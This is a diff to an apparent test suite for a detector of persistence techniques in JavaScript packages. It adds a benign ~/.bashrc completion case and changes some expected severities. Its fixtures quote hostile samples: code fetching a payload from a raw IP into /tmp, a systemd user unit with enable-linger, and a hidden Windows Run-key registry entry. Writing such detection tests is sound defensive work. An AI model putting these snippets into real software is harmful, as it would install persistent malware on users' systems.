@@ -16,6 +16,12 @@ ruleTest(rule, {
   ],
   flagged: [
     {
+      name: 'shell completion installer appending to ~/.bashrc (low)',
+      file: 'dist/completion.js',
+      code: `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'source <(mycli completion bash)\\n');\n`,
+      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
+    },
+    {
       name: 'electron auto-launch style LaunchAgent (medium)',
       file: 'src/autolaunch.js',
       code: `const fs = require('fs'), os = require('os');
@@ -32,13 +38,13 @@ axios.get('http://95.164.17.24:1224/client/5').then((r) => fs.writeFileSync('/tm
 fs.writeFileSync(process.env.HOME + '/.config/systemd/user/npm-cache.service', '[Service]\\nExecStart=node /tmp/.npl\\n');
 execSync('systemctl --user enable npm-cache && loginctl enable-linger');
 `,
-      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /systemd user unit \(file also has network\)/ }],
+      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /systemd user unit \(file also has raw-IP URL\)/ }],
     },
     {
       name: 'Run key via reg add',
       file: 'w.js',
       code: `require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Updater /d "node C:\\\\u.js" /f', { windowsHide: true });\n`,
-      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /Windows Run key/ }],
+      findings: [{ line: 1, severity: 'medium', confidence: 'medium', message: /Windows Run key/ }],
     },
   ],
 });
